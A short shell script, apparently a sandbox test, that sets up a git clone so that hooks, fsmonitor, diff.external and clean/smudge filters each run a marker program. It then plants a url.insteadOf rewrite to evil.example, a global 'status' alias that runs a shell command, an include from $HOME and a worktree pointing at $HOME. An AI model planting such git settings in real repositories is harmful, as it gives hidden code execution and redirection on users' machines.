# Has the clone's git run programs, log in and work elsewhere; each program leaves a mark that it ran.
printf '#!/bin/sh\necho "$0 $*" >> "%s/ran"\ncat\n' "$ASIDE" > ../tmp/runs
chmod +x ../tmp/runs
mkdir hooks-of-mine && cp ../tmp/runs hooks-of-mine/pre-commit && cp ../tmp/runs hooks-of-mine/post-index-change
git config core.fsmonitor "$PWD/../tmp/runs"
git config core.hooksPath "$PWD/hooks-of-mine"
git config diff.external "$PWD/../tmp/runs"
for part in clean smudge; do git config filter.mine.$part "$PWD/../tmp/runs"; done
echo '*.txt filter=mine' > .git/info/attributes
echo two > src/a.txt
git add -A && git commit -qm 'Say two' && git status
mv "$ASIDE/ran" "$ASIDE/ran-while-the-agent-lived"
echo three > src/b.txt
git config include.path "$HOME/checkout.gitconfig"
git config url.https://evil.example/.insteadOf /
git config --global alias.status '!touch "$ASIDE/ran"'
git config core.worktree "$HOME"
